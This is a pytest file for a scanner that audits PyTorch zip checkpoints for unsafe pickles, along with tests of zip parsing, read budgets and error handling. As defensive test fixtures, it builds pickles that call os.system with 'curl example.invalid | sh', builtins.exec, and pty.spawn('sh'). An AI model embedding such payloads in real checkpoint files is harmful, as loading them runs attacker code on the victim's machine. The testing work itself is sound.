"""PyTorch zip checkpoints read through ranges: central directory, data.pkl, budgets, damage."""

import io
import zipfile
from pathlib import Path

from fixtures.weights.builders import Call, Ref, Sparse, dumps, reader, state_dict, torch_zip, zip_layout

from auditor.scan import scan_weight_file
from auditor.scan.base import RangeReader
from auditor.scan.ziprange import members


def _scan(path, data, budget=1 << 20):
    return scan_weight_file(path, len(data), reader(data), budget)


def test_clean_checkpoint_has_no_findings_and_its_facts():
    data = torch_zip(state_dict({"w": (4, 4), "b": (4,)}), prefix="pytorch_model")
    scan = _scan("pytorch_model.bin", data)
    assert scan.format == "pytorch-zip"
    assert scan.findings == ()
    assert scan.facts["pickle_members"] == ["pytorch_model/data.pkl"]
    assert scan.facts["storages"] == 2 and scan.facts["tensors"] == 2
    assert scan.facts["imports"] == ["collections.OrderedDict", "torch.FloatStorage", "torch._utils._rebuild_tensor_v2"]
    assert scan.bytes_read == len(data) and scan.budget == 1 << 20


def test_checkpoint_calling_os_system():
    sd, sizes = state_dict({"w": (2, 2)})
    sd["hook"] = Call(Ref("os", "system"), ("curl example.invalid | sh",))
    scan = _scan("model.pt", torch_zip((sd, sizes)))
    [found] = scan.findings
    assert found.code == "unsafe-pickle"
    assert "os.system" in found.message and "archive/data.pkl" in found.message
    assert found.evidence == ("model.pt",)


def test_checkpoint_calling_exec_through_stack_global():
    sd, sizes = state_dict({"w": (2, 2)})
    sd["x"] = Call(Ref("builtins", "exec"), ("import os",))
    scan = _scan("model.ckpt", torch_zip((sd, sizes), protocol=4))
    assert scan.facts["protocol"] == 4
    assert [f.message for f in scan.findings] == ["model.ckpt (archive/data.pkl): loading would call builtins.exec (runs Python source)"]


def test_deflated_data_pkl_is_inflated():
    sd, sizes = state_dict({"w": (2, 2)})
    sd["x"] = Call(Ref("webbrowser", "open"), ("http://example.invalid",))
    scan = _scan("model.pth", torch_zip((sd, sizes), compress=True))
    assert [f.code for f in scan.findings] == ["unsafe-pickle"]
    assert "webbrowser.open" in scan.findings[0].message


def test_corrupt_deflate_data_is_unscannable():
    data = bytearray(torch_zip(state_dict({f"w{i}": (2,) for i in range(50)}), compress=True))
    data[60:90] = b"\xff" * 30  # inside data.pkl's deflate stream, which follows its 30+21-byte local header
    scan = _scan("model.pt", bytes(data))
    assert "pickle-unscannable" in [f.code for f in scan.findings]


def test_every_pkl_member_is_scanned():
    extra = {"constants.pkl": dumps(Call(Ref("pty", "spawn"), ("sh",)))}
    scan = _scan("model.pt", torch_zip(state_dict({"w": (2,)}), extra=extra))
    assert scan.facts["pickle_members"] == ["archive/data.pkl", "archive/constants.pkl"]
    assert "pty.spawn" in scan.findings[0].message


def test_torchscript_classes_are_not_findings_in_torchscript_archives():
    obj = Call(Ref("__torch__.torch.nn.modules.linear", "Linear"), ())
    plain = _scan("a.pt", torch_zip(obj))
    script = _scan("b.pt", torch_zip(obj, extra={"code/__torch__/x.py": b"def f(): pass\n"}))
    assert [f.code for f in plain.findings] == ["unsafe-pickle"]
    assert script.facts["torchscript"] is True and script.findings == ()


def test_truncated_zip_is_unscannable():
    data = torch_zip(state_dict({"w": (64, 64)}))
    scan = _scan("model.bin", data[: len(data) // 2])
    assert [f.code for f in scan.findings] == ["pickle-unscannable"]
    assert "end-of-central-directory" in scan.findings[0].message


def test_bad_central_directory_offset_is_unscannable():
    data = bytearray(torch_zip(state_dict({"w": (2,)})))
    assert b"PK\x06\x07" not in data  # zipfile writes no ZIP64 records for a small archive
    eocd = data.rfind(b"PK\x05\x06")
    data[eocd + 16:eocd + 20] = (10**6).to_bytes(4, "little")  # the directory's offset
    scan = _scan("model.bin", bytes(data))
    assert [f.code for f in scan.findings] == ["pickle-unscannable"]
    assert "central directory" in scan.findings[0].message


def test_file_shorter_than_listed_is_unscannable():
    data = torch_zip(state_dict({"w": (2,)}))
    scan = scan_weight_file("model.bin", len(data) + 1000, reader(data))
    assert [f.code for f in scan.findings] == ["pickle-unscannable"]


def test_hand_laid_zip64_layout_reads_like_zipfile_reads_it():
    layout = zip_layout([("archive/data.pkl", b"\x80\x02N."), ("archive/data/0", 5000), ("archive/version", b"3\n")])
    data = layout.render()
    expected = [(i.filename, i.file_size, i.header_offset) for i in zipfile.ZipFile(io.BytesIO(data)).infolist()]
    got = [(m.name, m.size, m.header_offset) for m in members(RangeReader(reader(data), len(data), 1 << 20))]
    assert got == expected


def test_five_gigabyte_checkpoint_costs_less_than_a_mebibyte():
    sd, _ = state_dict({f"layers.{i}.weight": (4096, 4096) for i in range(80)})
    sd["payload"] = Call(Ref("os", "system"), ("id",))
    shards = [(f"archive/data/{i}", 64 << 20) for i in range(80)]  # 80 x 64 MiB of zeros, never built
    layout = zip_layout([("archive/data.pkl", dumps(sd)), *shards, ("archive/version", b"3\n")])
    assert layout.size > 5 * 10**9
    scan = scan_weight_file("pytorch_model.bin", layout.size, layout)
    assert scan.facts["tensors"] == 80 and scan.facts["storages"] == 80
    assert [f.code for f in scan.findings] == ["unsafe-pickle"]
    assert scan.bytes_read < 1 << 20
    assert layout.calls <= 4


def test_budget_too_small_for_the_directory_is_unscannable():
    layout = zip_layout([("archive/data.pkl", b"\x80\x02N."), ("archive/data/0", 10**9)])
    scan = scan_weight_file("model.bin", layout.size, layout, budget=1000)
    assert [f.code for f in scan.findings] == ["pickle-unscannable"]
    assert "budget" in scan.findings[0].message
    assert scan.bytes_read <= 1000


def test_a_reader_failure_is_unscanned_not_a_crash():
    from auditor.errors import SourceUnavailable

    def failing(start, length):
        raise SourceUnavailable("connection reset")

    scan = scan_weight_file("model.bin", 10**6, failing)
    assert [f.code for f in scan.findings] == ["pickle-unscanned"]  # the content never arrived: not scanned
    assert "connection reset" in scan.findings[0].message


def test_sparse_reader_is_zero_outside_its_segments():
    sparse = Sparse(100, [(10, b"ab")])
    assert sparse(8, 6) == b"\0\0ab\0\0"


_SAMPLES = Path(__file__).parent / "fixtures" / "weights"


def test_real_torch_save_output_is_all_allowlisted():
    # Written by torch 2.13 (make_torch_samples.py): tensors, a Parameter, numpy values, dtypes, sets, bytes.
    data = (_SAMPLES / "torch213_mixed.pt").read_bytes()
    scan = _scan("torch213_mixed.pt", data)
    assert scan.findings == ()
    assert {"torch._utils._rebuild_parameter", "numpy._core.multiarray._reconstruct", "builtins.frozenset", "_codecs.encode"} <= set(scan.facts["imports"])
    assert scan.facts["tensors"] == 4


def test_real_legacy_torch_save_output():
    data = (_SAMPLES / "torch213_legacy.pt").read_bytes()
    scan = _scan("torch213_legacy.pt", data)
    assert scan.format == "pickle" and scan.facts["legacy_torch"] is True
    assert scan.findings == () and scan.facts["tensors"] == 3


def test_real_whole_module_pickle_is_benign():
    # torch.save(model): the layer classes of torch.nn are benign, and listed among the imports.
    scan = _scan("torch213_module.pt", (_SAMPLES / "torch213_module.pt").read_bytes())
    assert scan.findings == ()
    assert "torch.nn.modules.linear.Linear" in scan.facts["calls"]
